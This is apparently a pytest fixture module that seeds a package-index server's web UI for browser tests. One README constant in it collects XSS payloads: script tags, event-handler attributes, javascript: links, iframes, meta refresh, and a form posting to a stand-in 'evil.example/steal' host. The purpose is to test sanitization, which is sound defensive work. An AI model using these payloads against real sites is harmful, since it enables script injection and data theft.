"""The web interface's test server: a `wheelyard serve` whose `pypi` proxy is a local
upstream, seeded with a documented project (several versions, the newest yanked), a project
whose README is hostile, and a cached proxied project; and a fresh browser for each test."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from wheelyard.testing.browser import Browser, open_browser
from wheelyard.testing.dist_factory import make_wheel, metadata_text
from wheelyard.testing.server import ServerProcess
from wheelyard.testing.upstream import LocalUpstream

ADMIN = ("admin", "browser-admin-password")
JSON_V1 = "application/vnd.pypi.simple.v1+json"

DEMO_README = """\
# wheelyard-demo

A small library that shows what a project page looks like.

## Install

```sh
pip install wheelyard-demo
```

## Use

```python
from wheelyard_demo import greet
print(greet("world"))
```

| Feature | Status |
|---|---|
| Greetings | stable |
| Farewells | planned |

See the [changelog](https://example.com/changelog) for what changed.
"""

HOSTILE_README = """\
# Hostile README

<script>alert("script tag")</script>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.example/pixel.png" alt="tracking pixel">
<a href="javascript:alert('javascript link')">click me</a>
[markdown js link](javascript:alert('md link'))
<a href="https://evil.example/" onclick="alert('onclick')" onmouseover="alert('hover')">hover</a>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert('svg')"><circle r="5"></circle></svg>
<form action="https://evil.example/steal"><input name="q"><button>go</button></form>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/bg.png) }</style>
<div style="background-image: url(https://evil.example/inline.png)">styled</div>
<video src="https://evil.example/v.mp4" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<details open ontoggle="alert('toggle')"><summary>details</summary>x</details>
<p>Raw HTML <b>bold</b> and <em>emphasis</em> stay.</p>
"""


@dataclass
class UiEnv:
    """The seeded server of the browser tests."""

    process: ServerProcess
    upstream: LocalUpstream
    demo: str
    hostile: str
    proxied: str

    @property
    def url(self) -> str:
        return self.process.url

    def api(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        kwargs.setdefault("auth", ADMIN)
        return httpx.request(method, self.url + path, timeout=60, **kwargs)


def upload(env_url: str, path: Path, repo: str = "local") -> None:
    name, version = path.name.split("-")[:2]
    response = httpx.put(
        f"{env_url}/repositories/default/{repo}/{name}/{version}/{path.name}",
        content=path.read_bytes(),
        auth=ADMIN,
        timeout=60,
    )
    assert response.status_code == 201, response.text


def described_wheel(
    directory: Path,
    name: str,
    version: str,
    readme: str,
    *,
    links: tuple[tuple[str, str], ...] = (
        ("Source", "https://example.com/source"),
        ("Bad", "javascript:alert('project url')"),
    ),
    **extra: Any,
) -> Path:
    """A wheel whose METADATA carries a Markdown README, dependencies, classifiers and
    project `links` (by default one of them a `javascript:` URL, which must not become a
    link)."""
    headers = [
        ("Description-Content-Type", "text/markdown; charset=UTF-8; variant=GFM"),
        ("License-Expression", "MIT"),
        ("Author", "Wheelyard Tests"),
        ("Classifier", "Programming Language :: Python :: 3"),
        ("Classifier", "License :: OSI Approved :: MIT License"),
        *(("Project-URL", f"{label}, {url}") for label, url in links),
    ]
    metadata = metadata_text(
        name,
        version,
        summary=extra.pop("summary", "Greets people, politely"),
        requires_python=">=3.9",
        requires_dist=("httpx>=0.27", "rich; extra == 'pretty'"),
        extra_headers=headers,
        description=readme,
    )
    return make_wheel(directory, name, version, metadata=metadata, **extra)


@pytest.fixture(scope="session")
def ui_env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[UiEnv]:
    root = tmp_path_factory.mktemp("ui-env")
    suffix = uuid.uuid4().hex[:6]
    demo, hostile, proxied = "wheelyard-demo", f"hostile-{suffix}", "upstream-lib"
    with LocalUpstream(root / "upstream") as upstream:
        upstream.add_project(proxied, ("1.0", "1.1", "2.0"), sdist=True, yanked={"1.1": "broken"})
        process = ServerProcess(
            root / "server",
            {
                "WHEELYARD_ADMIN_PASSWORD": ADMIN[1],
                "WHEELYARD_PYPI_PROXY": upstream.simple_url,
            },
        ).start()
        try:
            env = UiEnv(process, upstream, demo, hostile, proxied)
            dists = root / "dists"
            dists.mkdir()
            for version in ("1.0", "1.1", "2.0"):
                upload(env.url, described_wheel(dists, demo, version, DEMO_README))
            yanked = env.api(
                "POST",
                f"/api/v1/repositories/default/local/projects/{demo}/versions/2.0/yank",
                json={"reason": "Breaks greetings on Windows"},
            )
            assert yanked.status_code == 200, yanked.text
            upload(env.url, described_wheel(dists, hostile, "1.0", HOSTILE_README))
            cached = httpx.get(
                f"{env.url}/repositories/default/pypi/simple/{proxied}/",
                headers={"Accept": JSON_V1},
                timeout=60,
            )
            assert cached.status_code == 200, cached.text
            yield env
        finally:
            process.stop()


@pytest.fixture
def browser(
    playwright_driver: Any,
    browser_tools: tuple[str, str],
    ui_env: UiEnv,
    tmp_path: Path,
    browser_artifacts: Path,
) -> Iterator[Browser]:
    """A fresh Chromium profile that may reach the test server only."""
    opened = open_browser(
        playwright_driver, browser_tools, tmp_path / "profile", {ui_env.url}, browser_artifacts
    )
    try:
        yield opened
    finally:
        opened.context.close()
